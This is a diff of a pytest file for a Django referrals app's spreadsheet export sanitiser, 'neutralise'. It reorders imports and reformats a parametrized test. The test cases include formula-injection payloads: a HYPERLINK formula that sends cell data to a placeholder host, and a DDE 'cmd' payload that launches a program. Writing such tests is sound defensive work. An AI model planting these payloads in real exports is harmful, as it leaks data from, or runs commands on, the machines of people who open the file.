@@ -10,32 +10,36 @@ from django.urls import reverse
 
 from referrals.export import neutralise
 from referrals.models import ReferralState
+from tests.clock import TODAY
 from tests.conftest import client_for
 from tests.patients.factories import PatientFactory
-from tests.referrals.factories import TODAY, make_referral, move
+from tests.referrals.factories import make_referral, move
 
 S = ReferralState
 
 
-@pytest.mark.parametrize("cell,expected", [
-    ("=1+1", "'=1+1"),
-    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
-    ("+41 22 555", "'+41 22 555"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("\n=1", "'\n=1"),
-    ("\x00x", "'\x00x"),
-    ("\x1bx", "'\x1bx"),
-    ("\x7fx", "'\x7fx"),
-    ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
-    ("A=1", "A=1"),
-    ("plain", "plain"),
-    ("", ""),
-    (None, ""),
-    (42, "42"),
-])
+@pytest.mark.parametrize(
+    "cell,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+        ("+41 22 555", "'+41 22 555"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1", "'\n=1"),
+        ("\x00x", "'\x00x"),
+        ("\x1bx", "'\x1bx"),
+        ("\x7fx", "'\x7fx"),
+        ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
+        ("A=1", "A=1"),
+        ("plain", "plain"),
+        ("", ""),
+        (None, ""),
+        (42, "42"),
+    ],
+)
 def test_neutralise(cell, expected) -> None:
     assert neutralise(cell) == expected
 
